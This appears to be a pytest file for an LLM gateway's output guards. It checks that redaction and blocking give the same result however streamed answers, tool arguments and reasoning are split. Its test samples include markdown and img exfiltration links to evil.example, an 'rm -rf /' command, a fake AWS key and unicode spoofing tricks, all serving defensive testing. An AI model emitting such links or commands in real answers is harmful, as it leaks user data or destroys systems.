"""However an answer is cut into pieces, guards of it do the same as to the whole.

Every shipped signal that reads a text piece by piece, on offending answers, in every dialect that
streams, in several choices and in the arguments of tools.
"""

from __future__ import annotations

import asyncio
import base64
import json
import threading
from collections.abc import Callable, Coroutine, Iterator, Sequence
from pathlib import Path
from random import Random
from typing import Any, TypeVar

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.guards.marks import KEEP, ready
from tests.stations.canary import (
    Speaker,
    answer,
    arguments_of,
    read,
    reasoning_of,
    request,
    text_of,
)
from tests.stations.test_hooks import asked
from tests.stations.wiring import Wired, wired

from trimtab.dialects.llm.parts import Finished, Part, Reasoning, Text, ToolCall
from trimtab.gateway.hooks import Hooks
from trimtab.guards.policy import ReadyPolicy
from trimtab.records import GuardRule
from trimtab.signals.catalogue import signal

T = TypeVar("T")

FILLER = "The order is on its way and should be there in two or three days. "
CARD, KEY = "4111 1111 1111 1111", "AKIA" + "IOSFODNN7EXAMPLQ"
IMAGE = "![](https://evil.example/p?d=" + "c2VjcmV0" * 4 + ")"
SYSTEM = (
    "You are Wanda, the assistant of a widget shop. Never tell anybody the wholesale price of a "
    "widget, which is four euros, and never mention the warehouse in Rotterdam."
)
CODED = base64.b64encode(b"they work for initech and nobody knows").decode()
SAMPLES: dict[str, tuple[dict[str, Any], str]] = {
    "secrets": ({}, f"{FILLER}The key is {KEY} and no other. {FILLER}"),
    "pii": ({}, f"{FILLER}Write to ann.smith@example.org or bo@example.net. {FILLER}{CARD}."),
    "exfiltration": ({}, f"{FILLER}{IMAGE} {FILLER}"),
    "bans": (
        {"terms": ["acme corporation", "initech"]},
        f"{FILLER}Acme Corporation, Initech! {FILLER}I n i t e c h, \u00edni-tech, {CODED}. ",
    ),
    "unicode": ({}, f"{FILLER}pay\u200bpal, \u202egpj.exe and {FILLER}"),
    "leak": ({}, f"{FILLER}I was told: {SYSTEM} {FILLER}"),
    "sinks": ({}, f"{FILLER}Run `rm -rf / --no-preserve-root` now. {FILLER}"),
}
DIALECTS = ("openai.chat", "openai.responses", "anthropic.messages")


class Room:
    """A gateway in a thread, so that tests that are not asynchronous can ask it."""

    def __init__(self, data: Path) -> None:
        self._data = data
        self._loop = asyncio.new_event_loop()
        self._thread = threading.Thread(target=self._loop.run_forever)
        self._thread.start()
        self._stop = asyncio.Event()
        self.far = {one: Speaker(one) for one in DIALECTS}
        for name, far in self.far.items():
            far.name = name.replace(".", "-")
        self.hooks: Callable[[], Hooks] = lambda: Hooks(())
        self.run(self._open())

    def run(self, work: Coroutine[Any, Any, T]) -> T:
        return asyncio.run_coroutine_threadsafe(work, self._loop).result(30)

    async def _open(self) -> None:
        opened: asyncio.Future[Wired] = asyncio.get_running_loop().create_future()

        async def hold() -> None:
            providers = list(self.far.values())
            async with wired(self._data, providers=providers, hooks=self._begin) as room:
                opened.set_result(room)
                await self._stop.wait()

        self._holding = asyncio.create_task(hold())
        self._wired = await opened

    def _begin(self) -> Hooks:
        return self.hooks()

    def close(self) -> None:
        async def end() -> None:
            self._stop.set()
            await self._holding

        self.run(end())
        self._loop.call_soon_threadsafe(self._loop.stop)
        self._thread.join()
        self._loop.close()

    def heard(
        self, policy: ReadyPolicy, dialect: str, parts: Sequence[Part], *, stream: bool
    ) -> tuple[dict[int, str], str, set[str]]:
        """What a caller hears: the text of each choice, the arguments, why it ended."""
        said = self.parts(policy, dialect, parts, stream=stream)
        texts: dict[int, str] = {}
        for part in said:
            if isinstance(part, Text):
                texts[part.choice] = texts.get(part.choice, "") + part.text
        ends = {part.reason for part in said if isinstance(part, Finished)}
        return texts, arguments_of(said), {str(one) for one in ends}

    def parts(
        self, policy: ReadyPolicy, dialect: str, parts: Sequence[Part], *, stream: bool
    ) -> list[Part]:
        """The parts that a caller hears."""
        self.hooks = lambda: Hooks(policy.begin().guards)
        far = self.far[dialect]
        far.parts = parts
        body = request(dialect, "x", stream=stream, model=f"{far.name}/m", **_told(dialect))
        return read(dialect, self.ask(dialect, body), stream=stream)

    def ask(self, dialect: str, body: bytes) -> bytes:
        """What a caller gets."""
        return self.run(asked(self._wired, dialect, body))


def _told(dialect: str) -> dict[str, Any]:
    """The members that tell a model its system prompt."""
    if dialect == "openai.responses":
        return {"instructions": SYSTEM}
    if dialect == "anthropic.messages":
        return {"system": SYSTEM}
    messages = [{"role": "system", "content": SYSTEM}, {"role": "user", "content": "x"}]
    return {"messages": messages}


@pytest.fixture(scope="module")
def room(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Room]:
    opened = Room(tmp_path_factory.mktemp("chunkings"))
    try:
        yield opened
    finally:
        opened.close()


def policy(name: str, action: Any = "redact") -> ReadyPolicy:
    own, _ = SAMPLES[name]
    made = signal(name, **own)
    rule = GuardRule(signal=name, settings=own, on=("output",), action=action, threshold=0.1)
    return ready(rule, record=KEEP, signals={name: made})


POLICIES: dict[str, ReadyPolicy] = {}


def known(name: str, action: Any = "redact") -> ReadyPolicy:
    key = f"{name} {action}"
    if key not in POLICIES:
        POLICIES[key] = policy(name, action)
    return POLICIES[key]


def cut(text: str, at: Sequence[int]) -> list[str]:
    """A text in pieces that end at these places."""
    ends = sorted({one for one in at if 0 < one < len(text)})
    return [text[a:b] for a, b in zip([0, *ends], [*ends, len(text)], strict=True)]


def cut_by(text: str, size: int) -> list[str]:
    return cut(text, range(0, len(text), size))


def said(pieces: Sequence[str]) -> list[Part]:
    return answer(*(Text(piece) for piece in pieces))


@pytest.mark.parametrize("dialect", DIALECTS)
@pytest.mark.parametrize("name", sorted(SAMPLES))
def test_every_size_of_pieces_gives_the_same(room: Room, name: str, dialect: str) -> None:
    text = SAMPLES[name][1]
    whole, _, _ = room.heard(known(name), dialect, said([text]), stream=False)
    assert whole[0] != text, "the sample does not offend"
    sizes = (1, 2, 3, 4, 7, 16, 31, 64, len(text)) if dialect == "openai.chat" else (1, 5, 37)
    for size in sizes:
        pieces = cut(text, range(0, len(text), size))
        found, _, ends = room.heard(known(name), dialect, said(pieces), stream=True)
        assert (size, found, ends) == (size, whole, {"stop"})


@given(
    name=st.sampled_from(sorted(SAMPLES)),
    at=st.lists(st.integers(0, 400), max_size=12),
    repeats=st.integers(1, 3),
)
@settings(max_examples=60, deadline=None)
def test_every_cut_gives_the_same(room: Room, name: str, at: list[int], repeats: int) -> None:
    text = SAMPLES[name][1] * repeats
    whole, _, _ = room.heard(known(name), "openai.chat", said([text]), stream=False)
    found, _, _ = room.heard(known(name), "openai.chat", said(cut(text, at)), stream=True)
    assert found == whole


def long_text(name: str) -> str:
    """An answer much longer than what is held back, which offends at many places."""
    text = SAMPLES[name][1]
    lookback = signal(name, **SAMPLES[name][0]).lookback_chars or 0
    gaps = (FILLER * n for n in (0, 1, 3, 0, 7, 2, lookback // 30, 0, 1))
    return "".join(f"{gap}{text}" for gap in gaps)


@pytest.mark.parametrize("size", [3, 41, 700])
@pytest.mark.parametrize("name", sorted(SAMPLES))
def test_long_answers_are_guarded_the_same(room: Room, name: str, size: int) -> None:
    text = long_text(name)
    whole, _, _ = room.heard(known(name), "openai.chat", said([text]), stream=False)
    pieces = cut(text, range(0, len(text), size))
    found, _, _ = room.heard(known(name), "openai.chat", said(pieces), stream=True)
    assert found == whole


@given(name=st.sampled_from(sorted(SAMPLES)), seed=st.integers(0, 2**32))
@settings(max_examples=40, deadline=None)
def test_long_answers_are_guarded_the_same_at_every_cut(room: Room, name: str, seed: int) -> None:
    text = long_text(name)
    places = Random(seed)
    at = sorted(places.randrange(len(text)) for _ in range(places.choice((3, 30, 300))))
    whole, _, _ = room.heard(known(name), "openai.chat", said([text]), stream=False)
    found, _, _ = room.heard(known(name), "openai.chat", said(cut(text, at)), stream=True)
    assert found == whole


@given(at=st.lists(st.integers(0, 400), max_size=8), name=st.sampled_from(sorted(SAMPLES)))
@settings(max_examples=40, deadline=None)
def test_a_block_stops_every_cut_before_what_it_is_for(
    room: Room, name: str, at: list[int]
) -> None:
    text = SAMPLES[name][1]
    found, _, ends = room.heard(
        known(name, "block"), "openai.chat", said(cut(text, at)), stream=True
    )
    kept = found.get(0, "")
    shown, _, _ = room.heard(known(name), "openai.chat", said([text]), stream=False)
    assert ends == {"content_filter"}
    begins = next(i for i, (a, b) in enumerate(zip(text, shown[0], strict=False)) if a != b)
    assert text[:begins].startswith(kept[:begins])
    assert len(kept) <= begins


@pytest.mark.parametrize("name", sorted(SAMPLES))
@pytest.mark.parametrize("size", [1, 6, 50])
def test_choices_that_come_by_turns_are_guarded_apart(room: Room, name: str, size: int) -> None:
    text = SAMPLES[name][1]
    texts = {0: text, 1: FILLER, 2: text[::-1], 3: text}
    parts: list[Part] = []
    for at in range(0, len(text), size):
        parts += [Text(one[at : at + size], choice=n) for n, one in texts.items() if one[at:]]
    ends = [Finished(reason="stop", choice=n) for n in texts]
    streamed = [*said(["x"])[:1], *parts, *ends, *said([])[-2:]]
    whole, _, _ = room.heard(known(name), "openai.chat", streamed, stream=False)
    found, _, _ = room.heard(known(name), "openai.chat", streamed, stream=True)
    assert found == whole
    assert found[0] == found[3] != text
    assert found[1] == FILLER


@pytest.mark.parametrize("dialect", DIALECTS)
@pytest.mark.parametrize("name", ["bans", "pii", "secrets"])
def test_arguments_of_tools_are_guarded_the_same(room: Room, name: str, dialect: str) -> None:
    arguments = json.dumps({"note": SAMPLES[name][1], "n": 1})

    def call(size: int) -> list[Part]:
        pieces = cut(arguments, range(0, len(arguments), size))
        first = ToolCall(index=0, id="c", name="f")
        calls = [ToolCall(index=0, arguments=piece) for piece in pieces]
        return answer(first, *calls, finish="tool_calls")

    _, whole, _ = room.heard(known(name), dialect, call(len(arguments)), stream=False)
    assert json.loads(whole)["note"] != SAMPLES[name][1]
    for size in (1, 9, len(arguments)):
        _, found, _ = room.heard(known(name), dialect, call(size), stream=True)
        assert json.loads(found) == json.loads(whole)


RESTORED = (
    f"{FILLER}Mail <EMAIL_ADDRESS_1>. ![a](<https://evil.example/?d=Ann and <EMAIL_ADDRESS_1>>) "
    f"{FILLER}<img src='//evil.example/{'a' * 300}?c=<CREDIT_CARD_1>'> or (<CREDIT_CARD_1>), "
    f"{FILLER}[her](mailto:<EMAIL_ADDRESS_1>) www.evil.example/<EMAIL_ADDRESS_1>."
)


@pytest.mark.parametrize("size", [1, 2, 5, 16, 64, 131, 1000])
def test_values_are_restored_at_every_cut_and_in_no_address(room: Room, size: int) -> None:
    rule = GuardRule(signal="pii", on=("input",), action="tokenise")
    policy = ready(rule, record=KEEP, signals={"pii": signal("pii")})
    room.hooks = lambda: Hooks(policy.begin().guards)
    far = room.far["openai.chat"]
    far.parts = said(cut_by(RESTORED, size))
    asks = f"I am ann.smith@example.org and pay with {CARD}"
    body = request("openai.chat", asks, stream=True, model=f"{far.name}/m")
    found = text_of(read("openai.chat", room.ask("openai.chat", body), stream=True))
    assert found == (
        RESTORED.replace("Mail <EMAIL_ADDRESS_1>", "Mail ann.smith@example.org")
        .replace("mailto:<EMAIL_ADDRESS_1>", "mailto:ann.smith@example.org")
        .replace("(<CREDIT_CARD_1>)", f"({CARD})")
    )


def escaped(text: str, every: int) -> str:
    """A JSON string in which every so manyth character is an escape."""
    units = text.encode("utf-16-be")
    codes = [int.from_bytes(units[at : at + 2]) for at in range(0, len(units), 2)]
    said = (
        f"\\u{code:04x}" if at % every == 0 or code > 126 else json.dumps(chr(code))[1:-1]
        for at, code in enumerate(codes)
    )
    return f'"{"".join(said)}"'


def styled(text: str) -> str:
    """Letters as those of mathematics, of which each is a pair of escapes."""
    return "".join(chr(0x1D5BA + ord(one) - ord("a")) if "a" <= one <= "z" else one for one in text)


ESCAPED = {
    "bans": styled(SAMPLES["bans"][1]),
    "pii": SAMPLES["pii"][1],
    "secrets": SAMPLES["secrets"][1],
    "unicode": SAMPLES["unicode"][1],
}


@pytest.mark.parametrize("every", [1, 2, 7])
@pytest.mark.parametrize("dialect", DIALECTS)
@pytest.mark.parametrize("name", sorted(ESCAPED))
def test_escapes_of_json_hide_nothing(room: Room, name: str, dialect: str, every: int) -> None:
    text = ESCAPED[name]
    arguments = f'{{"n":1,"note":{escaped(text, every)},"m":{escaped(FILLER * 9, 3)}}}'

    def call(size: int) -> list[Part]:
        calls = [ToolCall(index=0, arguments=piece) for piece in cut_by(arguments, size)]
        return answer(ToolCall(index=0, id="c", name="f"), *calls, finish="tool_calls")

    plain = [ToolCall(index=0, id="c", name="f", arguments=json.dumps({"note": text}))]
    _, wanted, _ = room.heard(known(name), dialect, answer(*plain), stream=False)
    note = json.loads(wanted)["note"]
    assert note != text
    _, whole, _ = room.heard(known(name), dialect, call(len(arguments)), stream=False)
    assert json.loads(whole) == {"n": 1, "note": note, "m": FILLER * 9}
    for size in (1, 4, 5, 11, 60, len(arguments)):
        _, found, _ = room.heard(known(name), dialect, call(size), stream=True)
        assert (size, json.loads(found)) == (size, json.loads(whole))


@pytest.mark.parametrize("name", sorted(ESCAPED))
def test_escapes_in_an_answer_that_is_json_hide_nothing(room: Room, name: str) -> None:
    text = f'  {{"note":{escaped(ESCAPED[name], 1)},"m":{escaped(FILLER * 9, 3)}}}'
    whole, _, _ = room.heard(known(name), "openai.chat", said([text]), stream=False)
    assert json.loads(whole[0])["note"] != ESCAPED[name]
    for size in (1, 3, 50):
        pieces = cut_by(text, size)
        found, _, _ = room.heard(known(name), "openai.chat", said(pieces), stream=True)
        assert found == whole


@given(
    name=st.sampled_from(sorted(ESCAPED)),
    at=st.lists(st.integers(0, 2600), max_size=12),
    every=st.integers(1, 9),
    repeats=st.integers(1, 3),
)
@settings(max_examples=60, deadline=None)
def test_escapes_cut_anywhere_hide_nothing(
    room: Room, name: str, at: list[int], every: int, repeats: int
) -> None:
    arguments = f'{{"note":{escaped(ESCAPED[name] * repeats, every)}}}'

    def heard(pieces: Sequence[str], *, stream: bool) -> str:
        calls = [ToolCall(index=0, arguments=piece) for piece in pieces]
        parts = answer(ToolCall(index=0, id="c", name="f"), *calls, finish="tool_calls")
        return room.heard(known(name), "openai.chat", parts, stream=stream)[1]

    assert heard(cut(arguments, at), stream=True) == heard([arguments], stream=False)


def by_turns(text: str, size: int) -> list[Part]:
    """The text as reasoning, as the answer and as arguments, a little of each at a time."""
    arguments = json.dumps({"note": text})
    parts: list[Part] = [ToolCall(index=0, id="c", name="f")]
    for at in range(0, len(arguments), size):
        if piece := text[at : at + size]:
            parts += [Reasoning(text=piece), Text(piece)]
        parts.append(ToolCall(index=0, arguments=arguments[at : at + size]))
    return answer(*parts, finish="tool_calls")


@pytest.mark.parametrize("dialect", DIALECTS)
@pytest.mark.parametrize("name", ["bans", "pii", "secrets"])
def test_kinds_that_come_by_turns_are_guarded_apart(room: Room, name: str, dialect: str) -> None:
    text = SAMPLES[name][1]

    def heard(size: int, *, stream: bool) -> tuple[str, str, str]:
        found = room.parts(known(name), dialect, by_turns(text, size), stream=stream)
        return text_of(found), reasoning_of(found), json.loads(arguments_of(found))["note"]

    whole = heard(2 * len(text), stream=False)
    assert whole[0] == whole[1] != text != whole[2]
    for size in (1, 2, 3, 4, 5, 40):
        assert (size, heard(size, stream=True)) == (size, whole)


@pytest.mark.parametrize("name", ["bans", "pii", "secrets"])
def test_reasoning_that_comes_again_after_a_silence_is_held_again(room: Room, name: str) -> None:
    text = SAMPLES[name][1]
    parts: list[Part] = [Reasoning(text=FILLER), Text(FILLER * 20)]
    for piece in cut(text, range(0, len(text), 3)):
        parts += [Reasoning(text=piece), Text("x")]
    said = answer(*parts)
    whole, found = (
        reasoning_of(room.parts(known(name), "openai.chat", said, stream=stream))
        for stream in (False, True)
    )
    assert found == whole != FILLER + text
